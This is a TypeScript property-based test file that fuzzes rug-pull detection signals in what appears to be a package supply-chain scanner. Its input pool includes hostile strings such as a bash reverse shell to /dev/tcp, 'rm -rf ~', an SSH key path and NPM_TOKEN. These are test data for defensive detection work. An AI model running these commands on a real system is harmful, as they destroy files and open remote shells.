import * as fc from 'fast-check';
import { expect, it } from 'vitest';
import type { Fact, FactKind, FileFacts, Reading } from '../../src/model/source.ts';
import type { Subject } from '../../src/model/subject.ts';
import { fact, file, irregular, tool } from '../../src/testing/facts.ts';
import { declaring, packed, read, sourced, sourcedAs, type ReadRelease } from '../../src/testing/sources.ts';
import { rugPullSignals } from './index.ts';

/** What strangers have written, and what somebody may yet write. */
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom(
    '__proto__',
    'constructor',
    '',
    'https://a.b/{c}',
    'http://[',
    'tcp://',
    '1.2.3.4:99999',
    'x@',
    '@',
    '%',
    '~',
  ),
  fc.constantFrom(
    'https://pastebin.com/x',
    'NPM_TOKEN',
    '~/.ssh/id_rsa',
    'node x.js',
    'rm -rf ~',
    '240.1.2.3',
    'bash -i >& /dev/tcp/x/1',
  ),
);
const kinds: readonly FactKind[] = [
  'import',
  'request',
  'socket',
  'address',
  'recipient',
  'environment',
  'environment-dump',
  'process',
  'execution',
  'decoded-execution',
  'file-read',
  'file-write',
  'path',
  'obfuscation',
  'hidden-code',
  'patched-global',
  'auto-run',
  'instruction',
];
const category = fc.constantFrom(
  'credentials',
  'wallet',
  'agent-config',
  'destructive',
  'download',
  'persistence',
  'other',
);
const facts: fc.Arbitrary<Fact> = fc
  .tuple(
    fc.constantFrom(...kinds),
    text,
    text,
    fc.record({
      line: fc.nat(900),
      column: fc.nat(900),
      scope: fc.nat(3),
      folded: fc.constantFrom([], ['base64']),
      category,
    }),
  )
  .map(([kind, value, by, fields]) => fact(kind, value, by, fields));
const reading: fc.Arbitrary<Reading> = fc.constantFrom(
  { how: 'parsed' },
  { how: 'not-read', reason: 'too large' },
  { how: 'fallback', reason: 'too deep' },
);
const files: fc.Arbitrary<FileFacts> = fc
  .record({
    path: fc.oneof(text, fc.constantFrom('index.js', 'binding.gyp', 'setup.py', 'x.pth')),
    role: fc.constantFrom('runs', 'test', 'docs', 'data'),
    entry: fc.constantFrom(null, 'install', 'launch'),
    language: fc.constantFrom('javascript', 'python', 'native', 'wasm', 'text'),
    bytes: fc.nat(900_000),
    reading,
    tools: fc.array(
      text.map((name) => tool(name, name)),
      { maxLength: 2 },
    ),
    facts: fc.array(facts, { maxLength: 6 }),
  })
  .map(({ path, facts: held, ...fields }) => file(path, fields, ...held));
const releases: fc.Arbitrary<ReadRelease> = fc
  .record({
    version: fc.oneof(fc.constantFrom('1.0.0', '1.0.1', '2.0.0', '2026.8.31', '__proto__'), text),
    held: fc.array(files, { maxLength: 4 }),
    scripts: fc.dictionary(fc.constantFrom('postinstall', 'install', 'x'), text),
    dependencies: fc.dictionary(text, text),
    irregularity: fc.constantFrom('link', 'duplicate-path', 'truncated'),
  })
  .map(({ version, held, scripts, dependencies, irregularity }) =>
    declaring(
      packed(read(version, ...held), { irregularities: [irregular(irregularity, version)] }),
      { installScripts: scripts, dependencies },
      { installScripts: {}, dependencies: null },
    ),
  );
const subjects: fc.Arbitrary<Subject> = fc
  .tuple(releases, fc.array(releases, { maxLength: 7 }), fc.boolean())
  .map(([first, others, isPython]) =>
    isPython ? sourcedAs({ packument: { ecosystem: 'pypi' } }, first, ...others) : sourced(first, ...others),
  );
const context = { asOf: '2026-06-29', baseline: null };

it('no fact makes a signal throw or answer twice differently', () => {
  fc.assert(
    fc.property(subjects, (subject) => {
      const again = structuredClone(subject);
      for (const signal of rugPullSignals) {
        expect(signal.examine(again, context)).toEqual(signal.examine(subject, context));
      }
    }),
    { numRuns: 150 },
  );
});

it('what is taken away from a release never fires', () => {
  fc.assert(
    fc.property(releases, (release) => {
      const { facts: kept, listed } = release;
      const next = { facts: { ...kept, version: '9.9.9' }, listed: { ...listed, version: '9.9.9' } };
      const subject = sourcedAs({ older: [read('0.0.1').listed] }, release, next);
      const fired = rugPullSignals.filter((signal) => signal.examine(subject, context).outcome === 'fired');
      const ofBothAlike = fired.filter(({ id }) => !['rug-pull/not-read', 'rug-pull/archive-irregular'].includes(id));
      expect(ofBothAlike.map(({ id }) => id)).toEqual([]);
    }),
    { numRuns: 300 },
  );
});

const long = (unit: string) => unit.repeat(Math.ceil(200_000 / unit.length));

it('no length of a text and no number of facts costs time', () => {
  const hostile = ['a', 'a-', ' ', '{', 'https://', '1.', '@', '/', '~/', '\\', 'a.', 'require(', "node -p '"].map(
    long,
  );
  const many = Array.from({ length: 20_000 }, (_, index) =>
    fact(kinds[index % kinds.length] ?? 'request', `https://berth-${index}.invalid`, 'fetch', {
      line: index,
      scope: index % 50,
    }),
  );
  const subjectsOf = hostile.map((each) => {
    const all = kinds.map((kind) => fact(kind, each, each, { category: 'credentials', snippet: '' }));
    const build = file('binding.gyp', {}, fact('auto-run', each, '.gyp command', { snippet: '' }));
    const next = declaring(read('1.0.1', file('index.js', {}, ...all), build), {
      installScripts: { postinstall: each },
      dependencies: { [each]: each },
    });
    return sourced(read('1.0.0'), next);
  });
  const crowded = sourced(read('1.0.0'), read('1.0.1', file('index.js', { bytes: 900_000 }, ...many)));
  for (const subject of [...subjectsOf, crowded]) {
    for (const signal of rugPullSignals) expect(() => signal.examine(subject, context)).not.toThrow();
  }
});
